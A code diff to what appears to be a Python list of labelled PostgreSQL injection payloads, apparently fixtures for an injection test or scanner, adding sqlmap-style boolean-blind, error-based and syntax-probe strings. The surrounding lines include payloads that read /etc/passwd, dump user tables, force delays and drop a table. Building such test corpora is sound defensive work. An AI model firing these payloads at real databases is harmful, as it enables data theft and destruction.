@@ -55,6 +55,7 @@ STR = [
     ("union", f"x' UNION ALL SELECT NULL,NULL,{CHR}-- x"), ("union", "x' UNION/**/SELECT usename FROM pg_user-- x"),
     ("union", "x' UNION SELECT username FROM users WHERE 'a'='a"),
     ("syntax-probe", "x'"), ("syntax-probe", "x'\"("), ("syntax-probe", "x') AND ('a"),
+    ("syntax-probe", "chair'nsHyit<'\">QsXgnr"),  # a quote closed early, the rest balanced by the template
     ("column-count", "x' ORDER BY 1-- x"),
     ("heavy", "x' AND 6961=(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))-- x"),
     ("file", "x' AND pg_read_file('/etc/passwd') IS NOT NULL-- x"), ("file", "x' AND pg_ls_dir('.') IS NULL-- x"),
@@ -73,6 +74,9 @@ ORDER = [
     ("column-count", "1-- x"), ("column-count", "3-- x"), ("column-count", "name, 5-- x"),
     ("time", "(SELECT 1 FROM pg_sleep(5))"), ("heavy", "(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))"),
     ("syntax-probe", "name'"), ("syntax-probe", "name)"), ("stacked", "name; DROP TABLE products-- x"),
+    ("boolean-blind", "name') AND 8238=5438 AND ('LGri'='LGri"),  # as sqlmap sends them: the quotes pair up
+    ("boolean-blind", "name' AND 9561=9561 AND 'DWFo'='DWFo"),
+    ("error-based", f"name' AND 8587={ERR} AND 'ab'='ab"),
     ("catalog", "(SELECT current_user)"), ("tautology", "name, 1=1"),
 ]
 
